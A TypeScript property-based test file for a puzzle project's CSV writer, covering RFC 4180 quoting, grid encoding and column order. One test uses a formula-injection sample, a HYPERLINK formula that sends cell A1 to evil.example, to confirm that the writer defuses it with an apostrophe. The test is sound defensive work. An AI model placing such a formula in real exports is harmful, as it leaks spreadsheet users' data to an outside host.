// Tests for src/formats/csv.ts: any field text survives RFC 4180 quoting (a formula-like one with
// a leading apostrophe, so a spreadsheet never runs it), grids and solutions are spelled so that a
// cell never needs quotes, and puzzles of every kind share one header, each row in its columns.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvField, csvGrid, csvHeader, csvRow, csvSolution } from '../../src/formats/csv.js';
import type { PackPuzzle } from '../../src/formats/kind.js';
import { allKinds } from '../../src/kinds.js';
import { SAMPLES } from '../helpers/packs.js';

/** Read one RFC 4180 record (no line end) back into its fields. */
function readRecord(line: string): string[] {
  const fields: string[] = [];
  let i = 0;
  for (;;) {
    let value = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        const q = line.indexOf('"', i);
        if (q < 0) throw new Error('unclosed quote');
        value += line.slice(i, q);
        if (line[q + 1] === '"') {
          value += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const c = line.indexOf(',', i);
      const end = c < 0 ? line.length : c;
      value = line.slice(i, end);
      i = end;
    }
    fields.push(value);
    if (i >= line.length) return fields;
    expect(line[i]).toBe(',');
    i++;
  }
}

const FORMULA = /^[=+\-@\t\r]/;

describe('csvField', () => {
  it('quotes exactly when needed, and every list of fields reads back as it was, formulas behind an apostrophe', () => {
    const unit = fc.constantFrom('a', ',', '"', '\r', '\n', ' ', 'é', '=', '+', '-', '@', '\t', '1');
    fc.assert(
      fc.property(fc.array(fc.string({ unit }), { minLength: 1, maxLength: 6 }), (values) => {
        const line = values.map(csvField).join(',');
        expect(readRecord(line)).toEqual(values.map((v) => (FORMULA.test(v) ? `'${v}` : v)));
        for (const v of values) expect(csvField(v) === v).toBe(!/[",\r\n]/.test(v) && !FORMULA.test(v));
      }),
    );
  });

  it('never leaves a cell that a spreadsheet would read as a formula', () => {
    fc.assert(
      fc.property(fc.string(), (v) => {
        const cell = csvField(v);
        const shown = cell.startsWith('"') ? cell.slice(1) : cell;
        expect(shown).not.toMatch(FORMULA);
      }),
    );
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"singles")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""singles"")"',
    );
  });
});

describe('csvGrid and csvSolution', () => {
  it('never need quotes and read back by splitting', () => {
    const cells = fc.array(fc.array(fc.nat(200), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(cells, cells, (grid, dominoes) => {
        const g = csvGrid(grid);
        const s = csvSolution(dominoes);
        expect(csvField(g)).toBe(g);
        expect(csvField(s)).toBe(s);
        expect(g.split('/').map((r) => r.split(' ').map(Number))).toEqual(grid);
        expect(s.split(';').map((d) => d.split(' ').map(Number))).toEqual(dominoes);
      }),
    );
  });
});

describe('csvRow of every kind', () => {
  const kinds = allKinds();
  const pool: PackPuzzle[] = kinds.flatMap((k) => SAMPLES[k.name]?.(6, { graded: true }) ?? []);

  it('has one header, the first packs’ columns first as before, kind and shape last', () => {
    expect(CSV_COLUMNS).toEqual([
      'id',
      'm',
      'rows',
      'cols',
      'tier',
      'grade',
      'tatham',
      'score',
      'nodes',
      'base_id',
      'transform',
      'grid',
      'solution',
      'kind',
      'shape',
    ]);
    expect(csvHeader()).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('writes each puzzle in the columns: the shared fields as they are, the rest as its kind spells them', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pool), { maxLength: 8 }), (puzzles) => {
        for (const p of puzzles) {
          const line = csvRow(p, kinds);
          expect(line.endsWith('\r\n')).toBe(true);
          // Nothing a sample holds needs quotes.
          expect(line).not.toContain('"');
          const f = Object.fromEntries(
            line
              .slice(0, -2)
              .split(',')
              .map((v, k) => [CSV_COLUMNS[k], v]),
          );
          expect(Object.keys(f).length).toBe(CSV_COLUMNS.length);
          const own = kinds.find((k) => k.name === p.kind)?.formats.pack?.csv(p);
          expect(f).toEqual({
            ...own,
            id: String(p.id),
            rows: String(p.rows),
            cols: String(p.cols),
            tier: p.tier,
            grade: p.grade ?? '',
            score: p.score === undefined ? '' : String(p.score),
            nodes: String(p.nodes),
            base_id: p.baseId === null || p.baseId === undefined ? '' : String(p.baseId),
            transform: p.transform ?? '',
            kind: p.kind,
          });
        }
      }),
      { numRuns: 20 },
    );
  });
});
